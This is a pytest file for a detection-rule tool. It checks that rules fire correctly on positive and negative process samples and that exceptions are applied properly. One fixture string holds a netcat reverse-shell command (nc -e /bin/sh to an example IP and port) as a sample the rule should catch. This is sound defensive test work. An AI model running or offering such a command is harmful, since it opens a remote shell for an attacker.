# SPDX-License-Identifier: Apache-2.0
from pathlib import Path
from typing import Any

import pytest

from agent.detect.exceptions import parse_exceptions
from agent.detect.rules import Rule
from agent.detect.samples import read_samples
from agent.detect.trying import Tried, Untested, samples_file, spares, try_rules
from tests.agent.detect.found import check, rule

SAMPLES = """
positive:
- {name: netcat, processes: [sshd -D, bash -l, nc -e /bin/sh 192.0.2.1 4444]}
negative:
- {name: a listing, processes: [sshd -D, bash -l, ls /etc]}
"""
EXCEPTION = """
- {name: x, rules: [r1], owner: alice, reason: y, expires: 2027-01-01, when: {ParentImage: /usr/bin/%s}}
"""


@pytest.fixture
def netcat(tmp_path: Path) -> Rule:
    """A rule with samples beside it."""
    one = rule(check("Image", "endswith", "/nc"), path=tmp_path / "netcat.yaml")
    samples_file(one).parent.mkdir()
    samples_file(one).write_text(SAMPLES)
    return one


def tried(*rules: Rule) -> list[Any]:
    return [(one.sample, one.is_right) if isinstance(one, Tried) else one.why for one in try_rules(rules)]


def test_every_sample_is_judged(netcat: Rule) -> None:
    assert tried(netcat) == [("netcat", True), ("a listing", True)]


def test_a_rule_that_does_not_fire_or_fires_too_often_is_told(netcat: Rule) -> None:
    other = rule(check("Image", "endswith", "/ls"), path=netcat.path)
    assert tried(other) == [("netcat", False), ("a listing", False)]


def test_a_rule_without_samples_is_told(tmp_path: Path) -> None:
    found = list(try_rules([rule(check("Image", "endswith", "/nc"), path=tmp_path / "x.yaml")]))
    assert isinstance(found[0], Untested) and "is missing" in found[0].why


def test_samples_that_cannot_be_read_are_told(netcat: Rule) -> None:
    samples_file(netcat).write_text("positive: 3\n")
    assert "expected a list" in tried(netcat)[0]


def test_an_exception_that_silences_a_sample_does_not_spare_it(netcat: Rule) -> None:
    samples = read_samples(samples_file(netcat))
    for parent, expected in (("cron", True), ("bash", False)):
        exception = parse_exceptions(EXCEPTION % parent, Path("x.yaml")).all[0]
        assert spares(netcat, samples, exception) is expected
